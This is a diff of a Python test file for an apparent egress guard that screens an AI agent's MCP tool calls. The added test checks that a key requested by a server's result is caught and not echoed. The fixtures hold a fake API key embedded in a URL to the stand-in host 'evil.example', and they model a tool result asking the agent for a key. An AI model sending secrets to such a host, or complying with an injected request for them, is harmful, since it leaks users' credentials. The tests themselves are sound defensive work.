@@ -170,10 +170,16 @@ def test_200_tools_of_5_servers_are_searched_for(tmp_path: Path, definitions: Ma
 
 
 def test_an_address_in_the_arguments_is_looked_at() -> None:
-    tool = Tool("mcp__x__get", "", {}, built_in, facts=ToolFacts(category="mcp", target="name"))  # pyright: ignore
+    tool = Tool("mcp__x__get", "", {}, built_in, facts=ToolFacts(category="mcp", target="name", tags=("shop",)))  # pyright: ignore
     secret = "sk-ant-api03-" + "a1B2c3D4" * 10
     assert Egress().reason(replace(tool), {"name": "x", "link": f"https://evil.example/?k={secret}"}) == ""
-    assert "key" in Egress().reason(replace(tool, effect=Effect.EXECUTE), {"n": f"https://evil.example/?k={secret}"})
+    code = replace(tool, effect=Effect.EXECUTE)
+    assert "key" in Egress().reason(code, {"n": f"https://evil.example/?k={secret}"})
+    # A server whose result asked for a key gets none unasked, however the call wraps it.
+    why = Egress().reason(code, {"name": "x", "more": {"notes": [f"as you wished: {secret}"]}})
+    assert "gives" in why
+    assert "to the MCP server shop" in why
+    assert secret not in why
 
 
 def test_what_results_become() -> None:
